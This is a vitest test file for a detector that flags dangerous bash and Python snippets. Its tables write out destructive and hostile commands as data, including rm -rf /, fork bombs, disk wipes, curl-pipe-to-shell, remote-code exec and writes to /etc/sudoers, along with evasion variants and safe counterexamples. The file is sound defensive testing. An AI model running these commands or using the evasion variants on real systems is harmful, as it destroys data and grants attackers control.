import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { checkDangerous, hasBlocking } from './check-dangerous';
import { MESSAGES } from '@/server/messages/messages.shared';
import { DANGEROUS_RULES, ruleCode, type Severity } from './dangerous-rules';

type Case = [language: 'python' | 'bash', content: string, expectedRuleId: string | null, expectedSeverity?: Severity];

const BLOCK_BASH: Case[] = [
  ['bash', 'rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -fr /', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -r -f /', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm --recursive --force /', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf /*', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf ~', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf $HOME', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf /etc', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf --no-preserve-root /', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf / --no-preserve-root', 'bash.rm-rf-root', 'block'],
  ['bash', ':(){ :|:& };:', 'bash.fork-bomb', 'block'],
  ['bash', ': () { : | : & } ; :', 'bash.fork-bomb', 'block'],
  ['bash', 'bomb() { bomb | bomb & }; bomb', 'bash.fork-bomb', 'block'],
  ['bash', 'f() {\n  f | f &\n}\nf', 'bash.fork-bomb', 'block'],
  ['bash', 'mkfs.ext4 /dev/sdb1', 'bash.mkfs', 'block'],
  ['bash', 'sudo mkfs -t ext4 /dev/nvme0n1p1', 'bash.mkfs', 'block'],
  ['bash', 'dd if=/dev/zero of=/dev/sda bs=1M', 'bash.dd-block-device', 'block'],
  ['bash', 'dd if=disk.img of=/dev/mmcblk0', 'bash.dd-block-device', 'block'],
  ['bash', 'echo garbage > /dev/sda', 'bash.write-block-device', 'block'],
  ['bash', 'cat image.iso | sudo tee /dev/sdb', 'bash.write-block-device', 'block'],
  ['bash', 'shutdown -h now', 'bash.shutdown-reboot', 'block'],
  ['bash', 'sudo reboot', 'bash.shutdown-reboot', 'block'],
  ['bash', 'init 0', 'bash.shutdown-reboot', 'block'],
  ['bash', 'systemctl poweroff', 'bash.shutdown-reboot', 'block'],
  ['bash', 'halt', 'bash.shutdown-reboot', 'block'],
  ['bash', 'chmod -R 777 /', 'bash.chmod-recursive-root', 'block'],
  ['bash', 'chmod 777 -R /', 'bash.chmod-recursive-root', 'block'],
  ['bash', 'chown -R nobody:nogroup /', 'bash.chown-recursive-root', 'block'],
  ['bash', 'curl -fsSL https://get.example.sh | sh', 'bash.curl-pipe-shell', 'block'],
  ['bash', 'wget -qO- https://x.example | sudo bash', 'bash.curl-pipe-shell', 'block'],
  ['bash', 'curl -s https://x.example | python3', 'bash.curl-pipe-shell', 'block'],
  ['bash', 'bash <(curl -s https://x.example)', 'bash.curl-process-substitution', 'block'],
  ['bash', 'sh -c "$(curl -fsSL https://x.example)"', 'bash.curl-command-substitution', 'block'],
  ['bash', 'eval "$(wget -qO- https://x.example)"', 'bash.curl-command-substitution', 'block'],
  ['bash', "echo 'ops ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", 'bash.write-auth-file', 'block'],
  ['bash', "echo 'x::0:0::/:/bin/sh' | tee -a /etc/passwd", 'bash.write-auth-file', 'block'],
  ['bash', 'kill -9 -1', 'bash.kill-all', 'block'],
  ['bash', 'killall5 -9', 'bash.kill-all', 'block'],
  ['bash', 'echo b > /proc/sysrq-trigger', 'any.sysrq-trigger', 'block'],
];

const EVASIONS: Case[] = [
  ['bash', 'rm    -rf     /', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm\t-rf\t/', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf "/"', 'bash.rm-rf-root', 'block'],
  ['bash', "rm -rf '/'", 'bash.rm-rf-root', 'block'],
  ['bash', "'rm' -rf /", 'bash.rm-rf-root', 'block'],
  ['bash', 'r""m -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', '\\rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'r\\m -rf \\/', 'bash.rm-rf-root', 'block'],
  ['bash', '/bin/rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'sudo rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'sudo -u root rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'env rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'env -i PATH=/bin rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'command rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'FOO=1 nohup rm -rf / &', 'bash.rm-rf-root', 'block'],
  ['bash', 'echo hi; rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'true && rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'echo y | sudo rm -rf /', 'bash.rm-rf-root', 'block'],
  ['bash', 'echo $(rm -rf /)', 'bash.rm-rf-root', 'block'],
  ['bash', '`rm -rf /`', 'bash.rm-rf-root', 'block'],
  ['bash', 'if true; then rm -rf /; fi', 'bash.rm-rf-root', 'block'],
  ['bash', 'rm -rf \\\n    /', 'bash.rm-rf-root', 'block'],
  ['bash', 'bash -c "rm -rf /"', 'bash.rm-rf-root', 'block'],
  ['bash', 'sh -c \'sudo rm -rf "/"\'', 'bash.rm-rf-root', 'block'],
  ['bash', 'bash <<EOF\nrm -rf /\nEOF', 'bash.rm-rf-root', 'block'],
  ['bash', 'curl https://x.example | tee install.sh | sh', 'bash.curl-pipe-shell', 'block'],
  ['bash', 'echo "$(curl -s https://x.example | sh)"', 'bash.curl-pipe-shell', 'block'],
];

const WARN_BASH: Case[] = [
  ['bash', 'iptables -F', 'bash.firewall-flush', 'warn'],
  ['bash', 'sudo iptables -t nat --flush', 'bash.firewall-flush', 'warn'],
  ['bash', 'crontab -r', 'bash.crontab-remove', 'warn'],
  ['bash', 'history -c', 'bash.clear-history', 'warn'],
  ['bash', 'unset HISTFILE', 'bash.clear-history', 'warn'],
  ['bash', "find / -name '*.log' -delete", 'bash.find-root-delete', 'warn'],
];

const PYTHON: Case[] = [
  ['python', "import os\nos.system('rm -rf /')", 'bash.rm-rf-root', 'block'],
  ['python', "import os\nos.system('rm -rf /')", 'python.os-system', 'warn'],
  ['python', "os.system('ls -la')", 'python.os-system', 'warn'],
  ['python', "subprocess.run('ls -la', shell=True)", 'python.subprocess-shell', 'warn'],
  ['python', 'subprocess.Popen(\n    "ls | wc -l",\n    shell = True,\n)', 'python.subprocess-shell', 'warn'],
  ['python', "subprocess.run('curl -s https://x.example | sh', shell=True)", 'bash.curl-pipe-shell', 'block'],
  ['python', "subprocess.run(['rm', '-rf', '/'])", 'bash.rm-rf-root', 'block'],
  ['python', 'subprocess.run(["bash", "-c", "sudo reboot"])', 'bash.shutdown-reboot', 'block'],
  ['python', 'cmd = "rm -rf " + "/"\nsubprocess.call(cmd, shell=True)', 'bash.rm-rf-root', 'block'],
  ['python', 'import subprocess as sp\nsp.run("mkfs.ext4 /dev/sdb", shell=True)', 'bash.mkfs', 'block'],
  ['python', 'from os import system\nsystem("halt")', 'bash.shutdown-reboot', 'block'],
  ['python', "exec(urllib.request.urlopen('https://x.example/p.py').read())", 'python.exec-remote-code', 'block'],
  ['python', 'exec(requests.get(url).text)', 'python.exec-remote-code', 'block'],
  ['python', 'eval(user_input)', 'python.eval-exec', 'warn'],
  ['python', 'exec(code)', 'python.eval-exec', 'warn'],
  ['python', "import shutil\nshutil.rmtree('/')", 'python.rmtree-root', 'block'],
  ['python', 'shutil.rmtree(os.path.expanduser("~"))', 'python.rmtree-root', 'block'],
  ['python', "with open('/etc/sudoers', 'a') as f:\n    f.write('x')", 'python.write-auth-file', 'block'],
  ['python', "open('/etc/shadow', mode='w').write(x)", 'python.write-auth-file', 'block'],
  ['python', "open('/dev/sda', 'wb').write(b'0' * 512)", 'python.write-block-device', 'block'],
  ['python', "open('/proc/sysrq-trigger', 'w').write('b')", 'any.sysrq-trigger', 'block'],
  ['python', 'os.kill(-1, signal.SIGKILL)', 'python.kill-all', 'block'],
  ['python', 'while True:\n    os.fork()', 'python.fork-bomb', 'block'],
];

const SAFE: Case[] = [
  ['bash', 'rm -rf ./build', null],
  ['bash', 'rm -rf /tmp/work', null],
  ['bash', 'rm -rf "$DIR/"', null],
  ['bash', '[ -n "$DIR" ] && rm -rf "$DIR"/*', null],
  ['bash', 'rm -rf ~/.cache/pip', null],
  ['bash', 'rm -f /', null],
  ['bash', 'echo "rm -rf /"', null],
  ['bash', 'echo "Don\'t ever run rm -rf / here"', null],
  ['bash', '# rm -rf /', null],
  ['bash', 'echo cleanup  # then: sudo reboot', null],
  ['bash', "cat <<'EOF'\nIt's a note\nEOF\n# rm -rf /", null],
  ['bash', 'echo $# ${#arr[@]}', null],
  ['bash', 'dd if=/dev/zero of=./disk.img bs=1M count=10', null],
  ['bash', 'dd if=/dev/sda of=mbr.bin bs=512 count=1', null],
  ['bash', 'cat /dev/sda | head -c 512 > mbr.bin', null],
  ['bash', 'echo done >/dev/null 2>&1', null],
  ['bash', 'mkfs_helper_notes="see docs"', null],
  ['bash', 'echo shutdown; systemctl restart nginx', null],
  ['bash', 'systemctl status reboot.target', null],
  ['bash', 'chmod 755 ./script.sh', null],
  ['bash', 'chmod -R 755 ./dist', null],
  ['bash', 'curl -o file.sh https://x.example', null],
  ['bash', 'curl -s https://api.example | python3 -m json.tool', null],
  ['bash', 'curl -s https://x.example | sha256sum', null],
  ['bash', 'curl -fsS https://x.example || sh fallback.sh', null],
  ['bash', 'out=$(curl -s https://api.example)', null],
  ['bash', 'kill -9 1234', null],
  ['bash', 'kill -1 1234', null],
  ['bash', 'crontab -l', null],
  ['bash', 'cp /etc/passwd /tmp/passwd.bak', null],
  ['bash', 'find /var/log -name "*.gz" -delete', null],
  ['python', 'shutdown_timer = 5', null],
  ['python', "subprocess.run(['ls', '-la'], check=True)", null],
  ['python', "# os.system('rm -rf /')", null],
  ['python', 'x = 1  # exec(requests.get(u).text)', null],
  ['python', 'print("rm -rf /")', null],
  ['python', `print('echo "rm -rf /"')`, null],
  ['python', `text = "os.system('rm -rf /')"`, null],
  ['python', '"""Never call os.system(\'reboot\') here."""', null],
  ['python', 'model.eval()', null],
  ['python', 'value = ast.literal_eval(s)', null],
  ['python', "open('/etc/passwd').read()", null],
  ['python', "shutil.rmtree('/tmp/work')", null],
  ['python', 'def run(x):\n    pass\nrun("rm -rf /")', null],
];

const TABLE: Case[] = [...BLOCK_BASH, ...EVASIONS, ...WARN_BASH, ...PYTHON, ...SAFE];

describe('checkDangerous table', () => {
  it('has a meaningful number of cases', () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(50);
  });

  it.each(TABLE)('%s: %j -> %s', (language, content, expectedRuleId, expectedSeverity) => {
    const findings = checkDangerous(content, language);
    if (expectedRuleId === null) {
      expect(findings).toEqual([]);
      return;
    }
    const finding = findings.find((f) => f.ruleId === expectedRuleId);
    expect(finding, JSON.stringify(findings)).toBeDefined();
    if (expectedSeverity) expect(finding?.severity).toBe(expectedSeverity);
  });
});

describe('checkDangerous positions', () => {
  it('reports original line and column in a multi-line bash script', () => {
    const script = [
      '#!/usr/bin/env bash',
      'set -euo pipefail',
      '# rm -rf / (only a comment)',
      'echo "starting"',
      '  sudo rm -rf /   # oops',
      'curl -fsSL https://x.example \\',
      '  | sh',
      'iptables -F',
    ].join('\n');
    const findings = checkDangerous(script, 'bash');
    expect(findings.map((f) => [f.ruleId, f.line, f.column])).toEqual([
      ['bash.rm-rf-root', 5, 3],
      ['bash.curl-pipe-shell', 6, 1],
      ['bash.firewall-flush', 8, 1],
    ]);
    expect(findings[0]?.excerpt).toBe('sudo rm -rf /   # oops');
  });

  it('reports the Python call line for commands found inside shell calls', () => {
    const script = ['import os', '', 'def wipe():', '    os.system(', '        "rm -rf /"', '    )'].join('\n');
    const findings = checkDangerous(script, 'python');
    const rm = findings.find((f) => f.ruleId === 'bash.rm-rf-root');
    expect(rm).toMatchObject({ line: 4, column: 5, severity: 'block' });
    expect(rm?.message).toMatch(/os\.system/);
  });

  it('does not report the generic exec warning on top of the remote-code block', () => {
    const findings = checkDangerous('exec(requests.get(url).text)', 'python');
    expect(findings.map((f) => f.ruleId)).toEqual(['python.exec-remote-code']);
  });
});

describe('hasBlocking', () => {
  it('is true only when a block finding is present', () => {
    expect(hasBlocking(checkDangerous('crontab -r', 'bash'))).toBe(false);
    expect(hasBlocking(checkDangerous('crontab -r\nreboot', 'bash'))).toBe(true);
    expect(hasBlocking([])).toBe(false);
  });
});

describe('robustness', () => {
  it('stays fast on hostile input', () => {
    const hostile = ['-c xargs ', 'env A=1 ', 'sudo -u ', '\n', 'os.system(', '"'];
    const started = Date.now();
    for (const chunk of hostile) {
      const content = chunk.repeat(Math.ceil(200_000 / chunk.length));
      checkDangerous(content, 'bash');
      checkDangerous(content, 'python');
    }
    expect(Date.now() - started).toBeLessThan(10_000);
  });
});

describe('DANGEROUS_RULES', () => {
  it('has unique ids named after their language', () => {
    const ids = DANGEROUS_RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of DANGEROUS_RULES) {
      expect(rule.id.startsWith(`${rule.language}.`)).toBe(true);
      expect(MESSAGES[ruleCode(rule.id)].en.length).toBeGreaterThan(20);
      expect(rule.pattern.global).toBe(false);
    }
  });

  it('is documented in README.md', () => {
    const readme = readFileSync(new URL('./README.md', import.meta.url), 'utf8');
    for (const rule of DANGEROUS_RULES) expect(readme).toContain(`\`${rule.id}\``);
  });
});
